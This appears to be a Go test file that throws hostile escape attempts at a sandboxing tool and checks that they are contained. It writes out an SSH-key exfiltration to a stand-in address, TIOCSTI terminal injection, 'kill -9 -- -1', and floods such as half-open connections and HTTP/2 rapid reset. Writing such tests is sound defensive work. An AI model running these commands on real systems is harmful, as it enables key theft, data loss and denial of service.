package hostile

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/penstock/penstock/internal/world"
)

// sessions are attempts that need a pen of their own.
func sessions() []attempt {
	const c = "sessions"
	return []attempt{
		{category: c, name: "type into the caller's terminal", alone: typeIn},
		{category: c, name: "a directory of the host as standard input", alone: descriptorAs(directory, true)},
		{category: c, name: "a connection of the host as standard input, connected again", alone: descriptorAs(connection, true)},
		{category: c, name: "a directory of the host, inherited", alone: descriptorAs(directory, false)},
		{category: c, name: "a connection of the host, inherited", alone: descriptorAs(connection, false)},
		{category: c, name: "kill everything that can be signalled", control: without("without a pen it would kill the machine"), alone: killAll},
		{category: c, name: "a process that outlives the command", alone: outlive},
		{category: c, name: "a process that outlives a killed supervisor, stopped", alone: outliveKill},
		{category: c, name: "edit the policy while it is in force", alone: editPolicy},
		{category: c, name: "fill the disk of the audit, then go on", alone: fillAudit, outside: true},
		{category: c, name: "3000 connections with half a request", alone: exhaust(`$T act conns 3000 good.example:80 'GET / HTTP/1.1\r\nHost: ' & $T act get GET http://good.example/{c}-during; wait`), outside: true},
		{category: c, name: "1000 TLS connections with half a greeting", alone: exhaust(`$T act conns 1000 good.example:443 '\x16\x03\x01\x02\x00\x01' & $T act get GET http://good.example/{c}-during; wait`), outside: true},
		{category: c, name: "a flood of datagrams, to the resolver and elsewhere", alone: exhaust(`$T act flood 20000 203.0.113.53:53 '\xff\xff{c}' & $T act flood 20000 198.51.100.9:9 '{c}'; wait`), outside: true},
		{category: c, name: "HTTP/2 streams that are reset at once", alone: exhaust(`$T act rapid good.example:443 good.example 20000`), outside: true},
		{category: c, name: "5000 names that are never connected to", alone: exhaust(`$T act manynames 5000 {c}.evil.example | tail -1`), outside: true},
		{category: c, name: "1000 connections to the resolver that say nothing", alone: exhaust(`$T act conns 1000 203.0.113.53:53 '\x00' & $T act get GET http://good.example/{c}-during; wait`), outside: true},
		{category: c, name: "2000 connections to the proxy port with half a greeting", alone: exhaust(`$T act conns 2000 127.0.0.1:808 '\x05' & $T act get GET http://good.example/{c}-during; wait`), outside: true},
		{category: c, name: "more descriptors than allowed", alone: tooMany("open_files: 256", "openfiles", "descriptors", 256)},
		{category: c, name: "more processes than allowed", alone: tooMany("pids: 100", "forks", "processes", 100)},
		{category: c, name: "escapes in the command's own arguments, shown by ps", alone: namedCommand},
		{category: c, name: "one pen's sockets from another pen", alone: otherPen},
	}
}

// small makes a pen with little in it.
func small(t *testing.T, o caller) *scene {
	s := newScene(t, o)
	s.o.Timeout = 90 * time.Second
	return s
}

// in runs a command in a pen and gathers what arrived.
func (s *scene) in(argv ...string) {
	s.t.Helper()
	p := s.home.Write(s.t, "policy.yaml", s.policy())
	s.result = s.w.Run(s.home, s.o, append([]string{world.Penstock(s.t), "run", "--policy", p, "--"}, argv...)...)
	s.collect()
	if _, err := os.Stat(s.auditDir()); err != nil && s.result.Code == 125 {
		return // there was no session, so nothing is recorded
	}
	if r := s.w.Run(s.home, s.o, world.Penstock(s.t), "audit", "verify"); r.Code != 0 {
		s.t.Errorf("audit verify: %s", r)
	}
}

// auditDir is where the sessions of the scene are recorded.
func (s *scene) auditDir() string {
	if sup := s.home.Supervisor(); sup != nil {
		return sup.AuditDir(world.UserID)
	}
	return filepath.Join(s.home.Path, ".local/state/penstock/audit")
}

// openPTY makes a terminal.
func openPTY(t *testing.T) (master, slave *os.File) {
	t.Helper()
	m, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
	if err == nil {
		err = unix.IoctlSetPointerInt(m, unix.TIOCSPTLCK, 0)
	}
	if err != nil {
		t.Fatal(err)
	}
	sl, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(m), unix.TIOCGPTPEER, unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC)
	if errno != 0 {
		t.Fatal(errno)
	}
	master, slave = os.NewFile(uintptr(m), "master"), os.NewFile(sl, "slave")
	t.Cleanup(func() { master.Close(); slave.Close() })
	return master, slave
}

// typeIn gives the tool the caller's terminal, and looks what was typed there.
func typeIn(t *testing.T, o caller) (arrived, seen string) {
	s := small(t, o)
	typed := func(argv ...string) (int, string) {
		master, slave := openPTY(t)
		cmd := s.w.Command(s.home, s.o, argv...)
		cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, slave
		cmd.SysProcAttr.Setpgid, cmd.SysProcAttr.Setsid, cmd.SysProcAttr.Setctty = false, true, true
		if err := world.Start(cmd); err != nil {
			t.Fatal(err)
		}
		out := make(chan string, 1)
		go func() {
			var b strings.Builder
			buf := make([]byte, 4096)
			for {
				n, err := unix.Read(int(master.Fd()), buf)
				b.Write(buf[:max(0, n)])
				if strings.Contains(b.String(), "the-end") || err != nil {
					out <- b.String()
					return
				}
			}
		}()
		cmd.Wait()
		n, _ := unix.IoctlGetInt(int(slave.Fd()), unix.TIOCINQ)
		slave.WriteString("the-end\n")
		return n, <-out
	}
	p := s.home.Write(t, "policy.yaml", s.policy())
	n, seen := typed(world.Penstock(t), "run", "-q", "--policy", p, "--", s.tool, "act", "terminal", "reboot")
	if n > 0 {
		arrived = fmt.Sprintf("%d characters in the caller's input", n)
	}
	if strings.Contains(seen, "GOT ") {
		arrived += " the tool typed into a terminal"
	}
	// A recent kernel refuses TIOCSTI to everybody but the administrator.
	if n, out := typed(s.tool, "act", "terminal", "reboot"); n == 0 && os.Getuid() == 0 && !o.User {
		t.Errorf("control: nothing was typed without a pen: %q", out)
	}
	return arrived, seen
}

func directory(s *scene) *os.File {
	f, err := os.Open(filepath.Join(s.home.Path, "run"))
	if err != nil {
		s.t.Fatal(err)
	}
	s.t.Cleanup(func() { f.Close() })
	return f
}

// connection is one that the host has made to somewhere.
func connection(s *scene) *os.File {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err == nil {
		err = unix.Connect(fd, &unix.SockaddrInet4{Port: 7000, Addr: [4]byte{198, 51, 101, 251}})
	}
	if err != nil {
		s.t.Fatal(err)
	}
	f := os.NewFile(uintptr(fd), "connection")
	s.t.Cleanup(func() { f.Close() })
	return f
}

// descriptorAs gives the tool a descriptor of the host.
func descriptorAs(open func(*scene) *os.File, stdin bool) func(*testing.T, caller) (string, string) {
	return func(t *testing.T, o caller) (arrived, seen string) {
		s := small(t, o)
		try := func(argv ...string) (string, string) {
			before := len(s.w.Outside())
			cmd := s.w.Command(s.home, s.o, append(argv, s.tool, "act", "fds", "198.51.100.77:7000", "mark-of-fds", ".ssh/id_ed25519")...)
			if f := open(s); stdin {
				cmd.Stdin = f
			} else {
				cmd.ExtraFiles = []*os.File{f, f}
			}
			var out strings.Builder
			cmd.Stdout, cmd.Stderr = &out, &out
			if err := world.Start(cmd); err != nil {
				t.Fatal(err)
			}
			cmd.Wait()
			if i := strings.Index(out.String(), hostSecret); i >= 0 {
				return out.String()[i:], out.String()
			}
			for _, p := range s.w.Outside()[before:] {
				if p.To.Addr().String() == "198.51.100.77" {
					return p.String(), out.String()
				}
			}
			return "", out.String()
		}
		p := s.home.Write(t, "policy.yaml", s.policy())
		arrived, seen = try(world.Penstock(t), "run", "-q", "--policy", p, "--")
		if got, out := try(); got == "" {
			t.Errorf("control: nothing arrived without a pen: %s", out)
		}
		return arrived, seen
	}
}

// killAll signals all it can; the host's processes, other pens and the audit
// must not mind.
func killAll(t *testing.T, o caller) (arrived, seen string) {
	s := small(t, o)
	victim := s.w.Command(s.home, s.o, "/bin/sleep", "600")
	if err := world.Start(victim); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { victim.Process.Kill(); victim.Wait() })
	// On gVisor it is process 1 itself, and what it sends there is no attempt.
	s.in("/bin/sh", "-c", "[ $$ = 1 ] || kill -STOP 1; kill -9 1; kill -9 $PPID; kill -9 -- -1; kill -9 $$")
	if !s.alive(victim.Process.Pid) {
		arrived = "a process of the host was killed"
	}
	if s.result.Code != 128+9 {
		t.Errorf("the session did not end as its command did: %s", s.result)
	}
	return arrived, fmt.Sprint("exit ", s.result.Code)
}

// ours makes a mark this test process's own: left sees those of every other.
func ours(mark string) string { return fmt.Sprintf("%s-%d", mark, os.Getpid()) }

// left returns the lingering processes that have the mark in their command line, and
// those of gVisor's that run them.
func left(mark string) (pids []int) {
	names, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, n := range names {
		b, err := os.ReadFile(n)
		program, _, _ := strings.Cut(string(b), "\x00")
		lingers := strings.Contains(string(b), "\x00linger\x00"+mark+"\x00") ||
			(strings.HasSuffix(program, "gvisor") || strings.HasSuffix(program, "microvm")) && strings.Contains(string(b), mark)
		if err != nil || !lingers {
			continue
		}
		var pid int
		fmt.Sscanf(n, "/proc/%d/", &pid)
		pids = append(pids, pid)
	}
	return pids
}

// gone waits until nothing with the mark is left: what was killed takes a
// moment to be so.
func gone(mark string, patience time.Duration) []int {
	deadline := time.Now().Add(patience)
	tick := time.NewTicker(10 * time.Millisecond)
	defer tick.Stop()
	for {
		pids := left(mark)
		if len(pids) == 0 || time.Now().After(deadline) {
			return pids
		}
		<-tick.C
	}
}

func outlive(t *testing.T, o caller) (arrived, seen string) {
	s := small(t, o)
	inside, bare := ours("mark-of-pen"), ours("mark-of-bare")
	s.in(s.tool, "act", "daemon", inside, "marks")
	seen = s.result.Stdout
	if pids := gone(inside, 3*time.Second); len(pids) > 0 {
		arrived = fmt.Sprintf("processes %v are still there after the session", pids)
	}
	s.w.Run(s.home, s.o, s.tool, "act", "daemon", bare, "marks")
	pids := left(bare)
	if len(pids) == 0 {
		t.Error("control: nothing was left without a pen")
	}
	for _, pid := range pids {
		syscall.Kill(pid, syscall.SIGKILL)
	}
	return arrived, seen
}

func outliveKill(t *testing.T, o caller) (arrived, seen string) {
	s := small(t, o)
	p := s.home.Write(t, "policy.yaml", s.policy())
	mark := ours("mark-of-killed")
	cmd := s.w.Command(s.home, s.o, world.Penstock(t), "run", "-q", "--policy", p, "--", s.tool, "act", "sh", "$T act daemon "+mark+" marks; kill -STOP -- -1; kill -STOP $$")
	if err := world.Start(cmd); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(s.o.Timeout)
	tick := time.NewTicker(10 * time.Millisecond)
	defer tick.Stop()
	lingers := func() bool {
		b, err := os.ReadFile(filepath.Join(s.home.Project, "marks"))
		return err == nil && strings.Contains(string(b), mark) && len(left(mark)) > 0
	}
	for !lingers() && time.Now().Before(deadline) {
		<-tick.C
	}
	if !lingers() {
		t.Error("control: there was no such process")
	}
	cmd.Process.Kill()
	cmd.Wait()
	if pids := gone(mark, 5*time.Second); len(pids) > 0 {
		return fmt.Sprintf("processes %v are still there after the supervisor's death", pids), ""
	}
	return "", "everything died with it"
}
